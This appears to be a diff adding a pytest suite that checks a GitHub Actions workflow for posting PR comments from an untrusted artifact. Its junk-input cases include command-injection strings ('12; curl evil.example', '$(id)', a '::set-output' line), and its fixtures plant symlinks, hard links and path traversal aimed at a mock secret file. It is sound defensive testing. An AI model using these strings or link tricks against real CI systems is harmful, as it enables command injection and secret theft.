@@ -1,0 +1,390 @@
+"""The PR comment through ``workflow_run``: gate.yml hands over an artifact, gate-comment.yml
+(the default branch's file) posts it. Everything in the artifact is untrusted data.
+
+The shell steps are taken from the workflow files themselves and run with bash, so what is
+tested is what runs; ``gate comment`` runs against the local GitHub (tests/github/fake_github.py)
+with the vendored ``workflow_run.completed`` payload from ``@octokit/webhooks-examples``.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from fake_github import FakeGitHub, load_event, run_gate, use_fake_github
+
+from gate.github.artifact import MAX_REPORTS, REPORT_MAX_BYTES
+from gate.github.comment import MARKER
+
+ROOT = Path(__file__).resolve().parents[2]
+WORKFLOWS = ROOT / ".github" / "workflows"
+BASH = shutil.which("bash")
+REPO = "acme/agents"
+PR = 12
+OTHER = 13
+HEAD = "c" * 40
+OTHER_HEAD = "e" * 40
+TOKEN = "ghs_workflow_run_comment_token_0123"
+BOT = "github-actions[bot]"
+
+pytestmark = pytest.mark.skipif(BASH is None, reason="bash is not installed")
+
+
+def step(workflow: str, job: str, name: str) -> dict[str, Any]:
+    data: dict[Any, Any] = yaml.safe_load((WORKFLOWS / workflow).read_text(encoding="utf-8"))
+    (found,) = [s for s in data["jobs"][job]["steps"] if s.get("name") == name]
+    result: dict[str, Any] = found
+    return result
+
+
+def run_step(workflow: str, job: str, name: str, cwd: Path,
+             env: dict[str, str]) -> tuple[int, str, dict[str, str]]:
+    """Run a step's ``run:`` script as Actions does (bash -e), returning (exit code, stdout,
+    what it wrote to $GITHUB_OUTPUT)."""
+    assert BASH is not None
+    output = cwd / "github-output.txt"
+    output.write_text("")
+    script = step(workflow, job, name)["run"]
+    proc = subprocess.run(
+        [BASH, "--noprofile", "--norc", "-eo", "pipefail", "-c", script], cwd=cwd,
+        env={"PATH": os.environ["PATH"], "GITHUB_OUTPUT": str(output),
+             "GITHUB_STEP_SUMMARY": str(cwd / "step-summary.md"),
+             "RUNNER_TEMP": str(cwd), **env},
+        capture_output=True, text=True, timeout=60, check=False)
+    lines = [ln.split("=", 1) for ln in output.read_text().splitlines() if "=" in ln]
+    return proc.returncode, proc.stdout + proc.stderr, {k: v for k, v in lines}
+
+
+def workflow_run_event(head_sha: str) -> dict[str, Any]:
+    """The vendored payload as GitHub sends it after a fork PR's gate run: event
+    pull_request, and an empty ``pull_requests`` (GitHub lists none for forks)."""
+    event = load_event("workflow_run.completed")
+    run = event["workflow_run"]
+    run.update(event="pull_request", conclusion="failure", status="completed", name="gate",
+               head_sha=head_sha, pull_requests=[])
+    event["repository"]["full_name"] = REPO
+    return event
+
+
+@pytest.fixture
+def gh(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[FakeGitHub]:
+    with FakeGitHub() as fake:
+        fake.add_token(TOKEN, BOT, installation=True)
+        fake.add_repo(REPO)
+        fake.add_pull(REPO, PR, "mallory", "b" * 40, HEAD, head_repo="mallory/agents")
+        fake.add_pull(REPO, OTHER, "carol", "b" * 40, OTHER_HEAD)
+        monkeypatch.chdir(tmp_path)
+        monkeypatch.delenv("GATE_COMMENT_AUTHOR", raising=False)
+        use_fake_github(monkeypatch, fake, tmp_path, token=TOKEN, repo=REPO,
+                        event=workflow_run_event(HEAD))
+        yield fake
+
+
+def artifact(tmp_path: Path, number: str | bytes,
+             reports: dict[str, str] | None = None) -> Path:
+    """A downloaded ``gate-comment`` artifact: pr-number and runs/<name>/report.md."""
+    root = tmp_path / "gate-comment"
+    (root / "runs").mkdir(parents=True)
+    raw = number.encode() if isinstance(number, str) else number
+    (root / "pr-number").write_bytes(raw)
+    for name, text in (reports or {"sweep-a": "## gate\nreport A\n"}).items():
+        (root / "runs" / name).mkdir()
+        (root / "runs" / name / "report.md").write_text(text, encoding="utf-8")
+    return root
+
+
+def which_pr(tmp_path: Path, root: Path) -> tuple[int, str, str | None]:
+    """gate-comment.yml's "Which PR" step: (exit code, log, the number it outputs)."""
+    code, log, out = run_step("gate-comment.yml", "comment", "Which PR", tmp_path,
+                              {"ARTIFACT": str(root / "pr-number")})
+    return code, log, out.get("number")
+
+
+def post(tmp_path: Path, root: Path) -> int:
+    """gate-comment.yml's last two steps, as the workflow runs them."""
+    code, _log, number = which_pr(tmp_path, root)
+    if code != 0:
+        return 10 + code
+    assert number is not None
+    command = step("gate-comment.yml", "comment", "gate comment")["run"]
+    assert command == 'gate comment --pr "$PR_NUMBER" --head-sha "$HEAD_SHA" --runs-in "$RUNS"'
+    head_sha = json.loads(Path(os.environ["GITHUB_EVENT_PATH"]).read_text())[
+        "workflow_run"]["head_sha"]  # env HEAD_SHA: ${{ github.event.workflow_run.head_sha }}
+    return run_gate("comment", "--pr", number, "--head-sha", head_sha,
+                    "--runs-in", str(root / "runs"))
+
+
+def nothing_posted(fake: FakeGitHub, tmp_path: Path) -> bool:
+    summary = tmp_path / "summary.md"
+    return (fake.comments(REPO, PR) == [] and fake.comments(REPO, OTHER) == []
+            and not (summary.exists() and summary.read_text()))
+
+
+# --- the hand-over, end to end ------------------------------------------------------------
+
+
+def test_fork_pr_gets_its_comment_through_the_artifact(gh: FakeGitHub, tmp_path: Path) -> None:
+    # gate.yml's decision job (PR code, read-only token) builds the artifact ...
+    work = tmp_path / "job"
+    for name, text in {"model-x": "## gate: model-x\npass\n", "none": "## gate\nsmoke\n"}.items():
+        (work / "runs" / name).mkdir(parents=True)
+        (work / "runs" / name / "report.md").write_text(text)
+    (work / "run-dirs.txt").write_text("runs/model-x\nruns/none\n")
+    code, log, _out = run_step("gate.yml", "report", "Hand the reports to gate-comment.yml",
+                               work, {"PR_NUMBER": str(PR)})
+    assert code == 0, log
+    handed = work / "gate-comment"
+    assert sorted(p.relative_to(handed).as_posix() for p in handed.rglob("*")) == [
+        "pr-number", "runs", "runs/model-x", "runs/model-x/report.md", "runs/none",
+        "runs/none/report.md"]
+    # ... and gate-comment.yml (default branch) posts it, though pull_requests is empty
+    assert post(tmp_path, handed) == 0
+    (comment,) = gh.comments(REPO, PR)
+    assert comment.user == BOT
+    assert comment.body == f"{MARKER}\n## gate: model-x\npass\n\n---\n\n## gate\nsmoke\n"
+    assert "## gate: model-x" in (tmp_path / "summary.md").read_text()
+
+
+@pytest.mark.parametrize(("fork", "draft", "has_sweeps", "expected"), [
+    ("true", "false", "true", "Fork PR: no secrets, not evaluated."),
+    ("false", "true", "true", "Draft PR: smoke test only."),
+    ("true", "false", "false", "No sweep results:"),
+])
+def test_fork_and_draft_prs_get_a_report_to_post(tmp_path: Path, fork: str, draft: str,
+                                                 has_sweeps: str, expected: str) -> None:
+    code, log, _out = run_step("gate.yml", "report", "gate report", tmp_path, {
+        "SMOKE_RESULT": "success", "FORK": fork, "DRAFT": draft, "HAS_SWEEPS": has_sweeps})
+    assert code == 0, log
+    text = (tmp_path / "runs" / "none" / "report.md").read_text()
+    assert text.startswith("## gate\n\n" + expected)
+    assert text.endswith("Smoke test: success.\n")
+    assert (tmp_path / "run-dirs.txt").read_text() == "runs/none\n"
+
+
+# --- forged artifacts: refused, nothing posted --------------------------------------------
+
+
+def test_forged_number_of_another_pr_is_refused(gh: FakeGitHub, tmp_path: Path,
+                                                capsys: pytest.CaptureFixture[str]) -> None:
+    # The run was for PR 12's head; the artifact names PR 13 (a valid number, another PR).
+    root = artifact(tmp_path, f"{OTHER}\n", {"x": "## gate\nall models pass, merge!\n"})
+    assert post(tmp_path, root) == 1
+    out = capsys.readouterr().out
+    assert "refused, nothing posted" in out
+    assert f"PR #{OTHER}'s head is eeeeeeeeeeee, the run was for cccccccccccc" in out
+    assert nothing_posted(gh, tmp_path)
+
+
+def test_number_of_no_pull_request_is_refused(gh: FakeGitHub, tmp_path: Path,
+                                              capsys: pytest.CaptureFixture[str]) -> None:
+    root = artifact(tmp_path, "99\n")  # an issue, or nothing: never commented on
+    assert post(tmp_path, root) == 1
+    assert f"#99 is not a pull request of {REPO}" in capsys.readouterr().out
+    assert nothing_posted(gh, tmp_path)
+
+
+def test_run_for_an_older_head_is_refused(gh: FakeGitHub, tmp_path: Path,
+                                          monkeypatch: pytest.MonkeyPatch) -> None:
+    # The PR moved on after this run: its report is stale, and the newer run posts.
+    use_fake_github(monkeypatch, gh, tmp_path, token=TOKEN, repo=REPO,
+                    event=workflow_run_event("0" * 40))
+    assert post(tmp_path, artifact(tmp_path, f"{PR}\n")) == 1
+    assert nothing_posted(gh, tmp_path)
+
+
+@pytest.mark.parametrize("number", [
+    b"", b"0\n", b"012\n", b"-12\n", b"12; curl evil.example\n", b"$(id)\n",
+    b"1" * 11, b"1" * 10_000_000, b"\xff\xfe1\x002\n", b"::set-output name=number::13\n",
+])
+def test_junk_and_oversize_pr_numbers_are_refused(tmp_path: Path, number: bytes) -> None:
+    root = artifact(tmp_path, number)
+    code, log, read = which_pr(tmp_path, root)
+    assert code == 1
+    assert "no valid PR number" in log
+    assert read is None
+
+
+def test_valid_pr_number_is_read(tmp_path: Path) -> None:
+    code, log, number = which_pr(tmp_path, artifact(tmp_path, f"{PR}\n"))
+    assert (code, number) == (0, str(PR)), log
+
+
+def test_pr_number_as_a_symbolic_link_is_refused(tmp_path: Path) -> None:
+    outside = tmp_path / "outside-number"
+    outside.write_text(f"{PR}\n")
+    root = artifact(tmp_path, "")
+    (root / "pr-number").unlink()
+    (root / "pr-number").symlink_to(outside)
+    code, _log, number = which_pr(tmp_path, root)
+    assert (code, number) == (1, None)
+
+
+def _secret(tmp_path: Path) -> Path:
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOP-SECRET-RUNNER-FILE\n")
+    return secret
+
+
+def _link_report(root: Path, target: Path) -> None:
+    (root / "runs" / "sweep-a" / "report.md").unlink()
+    (root / "runs" / "sweep-a" / "report.md").symlink_to(target)
+
+
+def _link_dir(root: Path, target: Path) -> None:
+    os.symlink(target, root / "runs" / "sweep-b")
+
+
+def _dotdot_link(root: Path, target: Path) -> None:
+    os.symlink(os.path.relpath(target.parent, root / "runs"), root / "runs" / "up")
+
+
+def _runs_is_a_link(root: Path, target: Path) -> None:
+    shutil.rmtree(root / "runs")
+    (target.parent / "elsewhere" / "x").mkdir(parents=True)
+    shutil.copy(target, target.parent / "elsewhere" / "x" / "report.md")
+    os.symlink(target.parent / "elsewhere", root / "runs")
+
+
+def _hard_link(root: Path, target: Path) -> None:
+    (root / "runs" / "sweep-a" / "report.md").unlink()
+    os.link(target, root / "runs" / "sweep-a" / "report.md")
+
+
+def _nested(root: Path, _target: Path) -> None:
+    deep = root / "runs" / "sweep-a" / "deeper"
+    deep.mkdir()
+    (deep / "report.md").write_text("## gate\nfrom deeper\n")
+
+
+def _extra_file(root: Path, _target: Path) -> None:
+    (root / "runs" / "sweep-a" / "results.json").write_text("{}")
+
+
+def _stray_file(root: Path, _target: Path) -> None:
+    (root / "runs" / "report.md").write_text("## gate\nat the top\n")
+
+
+def _odd_name(root: Path, _target: Path) -> None:
+    (root / "runs" / "a\nb").mkdir()
+    (root / "runs" / "a\nb" / "report.md").write_text("## gate\nodd\n")
+
+
+def _dot_name(root: Path, _target: Path) -> None:
+    (root / "runs" / "..hidden").mkdir()
+    (root / "runs" / "..hidden" / "report.md").write_text("## gate\nhidden\n")
+
+
+def _oversize(root: Path, _target: Path) -> None:
+    (root / "runs" / "sweep-a" / "report.md").write_text("x" * (REPORT_MAX_BYTES + 1))
+
+
+def _not_utf8(root: Path, _target: Path) -> None:
+    (root / "runs" / "sweep-a" / "report.md").write_bytes(b"## gate\n\xff\xfe\n")
+
+
+def _too_many(root: Path, _target: Path) -> None:
+    for i in range(MAX_REPORTS):
+        (root / "runs" / f"s{i:03d}").mkdir()
+        (root / "runs" / f"s{i:03d}" / "report.md").write_text("## gate\n")
+
+
+def _missing_report(root: Path, _target: Path) -> None:
+    (root / "runs" / "sweep-a" / "report.md").unlink()
+
+
+def _empty(root: Path, _target: Path) -> None:
+    shutil.rmtree(root / "runs" / "sweep-a")
+
+
+def _no_runs(root: Path, _target: Path) -> None:
+    shutil.rmtree(root / "runs")
+
+
+@pytest.mark.parametrize("forge", [
+    _link_report, _link_dir, _dotdot_link, _runs_is_a_link, _hard_link, _nested, _extra_file,
+    _stray_file, _odd_name, _dot_name, _oversize, _not_utf8, _too_many, _missing_report,
+    _empty, _no_runs,
+], ids=lambda f: f.__name__.strip("_"))
+def test_forged_report_layout_is_refused(gh: FakeGitHub, tmp_path: Path, forge: Any,
+                                         capsys: pytest.CaptureFixture[str]) -> None:
+    root = artifact(tmp_path, f"{PR}\n")
+    secret = _secret(tmp_path)
+    forge(root, secret)
+    assert post(tmp_path, root) == 1
+    out = capsys.readouterr().out
+    assert "gate comment: refused, nothing posted: " in out
+    assert "TOP-SECRET" not in out
+    assert len(out.splitlines()) == 1  # one line: a name from the artifact is printed escaped
+    assert nothing_posted(gh, tmp_path)
+    assert gh.requests == []  # refused before any API call
+
+
+def test_exact_layout_is_posted_sorted_and_neutralised(gh: FakeGitHub, tmp_path: Path) -> None:
+    root = artifact(tmp_path, f"{PR}\n", {
+        "b-sweep": "## gate: b\n",
+        "a-sweep": "## gate: a\n<!-- gate-report -->\ncc @acme/core\n",
+    })
+    assert post(tmp_path, root) == 0
+    (comment,) = gh.comments(REPO, PR)
+    assert comment.body.startswith(f"{MARKER}\n## gate: a\n")
+    assert comment.body.count(MARKER) == 1
+    assert "@acme" not in comment.body
+    assert comment.body.index("## gate: a") < comment.body.index("## gate: b")
+
+
+def test_runs_in_needs_pr_and_head_sha(gh: FakeGitHub, tmp_path: Path,
+                                       capsys: pytest.CaptureFixture[str]) -> None:
+    root = artifact(tmp_path, f"{PR}\n")
+    with pytest.raises(SystemExit) as exc:
+        run_gate("comment", "--runs-in", str(root / "runs"), "--pr", str(PR))
+    assert exc.value.code == 4
+    assert "--runs-in needs --pr and --head-sha" in capsys.readouterr().err
+    with pytest.raises(SystemExit) as exc:
+        run_gate("comment", "--runs-in", str(root / "runs"), "--pr", str(PR),
+                 "--head-sha", "HEAD")
+    assert exc.value.code == 4
+    with pytest.raises(SystemExit) as exc:
+        run_gate("comment", "--runs-in", str(root / "runs"), "--run", str(root / "runs" / "x"))
+    assert exc.value.code == 4
+    assert nothing_posted(gh, tmp_path)
+
+
+def test_head_sha_check_also_guards_run(gh: FakeGitHub, tmp_path: Path) -> None:
+    # --head-sha works with trusted --run directories too: the PR must be at that commit.
+    run = tmp_path / "run"
+    run.mkdir()
+    (run / "report.md").write_text("## gate\nr\n")
+    assert run_gate("comment", "--run", str(run), "--pr", str(OTHER), "--head-sha", HEAD) == 1
+    assert run_gate("comment", "--run", str(run), "--pr", str(PR), "--head-sha", HEAD) == 0
+    assert [c.body for c in gh.comments(REPO, PR)] == [f"{MARKER}\n## gate\nr\n"]
+
+
+def test_directory_swapped_for_a_link_after_the_check_is_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # The listing sees a directory; by the time it is opened it is a link to a runner folder.
+    # Opening without following links refuses it: the check is not only a look beforehand.
+    import gate.github.artifact as artifact_module
+    from gate.errors import UntrustedArtifactError
+
+    root = artifact(tmp_path, f"{PR}\n")
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "report.md").write_text("TOP-SECRET-RUNNER-FILE\n")
+    os.symlink(outside, root / "runs" / "sweep-b")
+    real_stat = os.stat
+    looks_like_a_dir = real_stat(root / "runs" / "sweep-a")
+
+    def racing_stat(path: Any, *args: Any, **kwargs: Any) -> os.stat_result:
+        return looks_like_a_dir if path == "sweep-b" else real_stat(path, *args, **kwargs)
+
+    monkeypatch.setattr(artifact_module.os, "stat", racing_stat)
+    with pytest.raises(UntrustedArtifactError, match="cannot read as a plain directory tree"):
+        artifact_module.read_untrusted_reports(root / "runs")
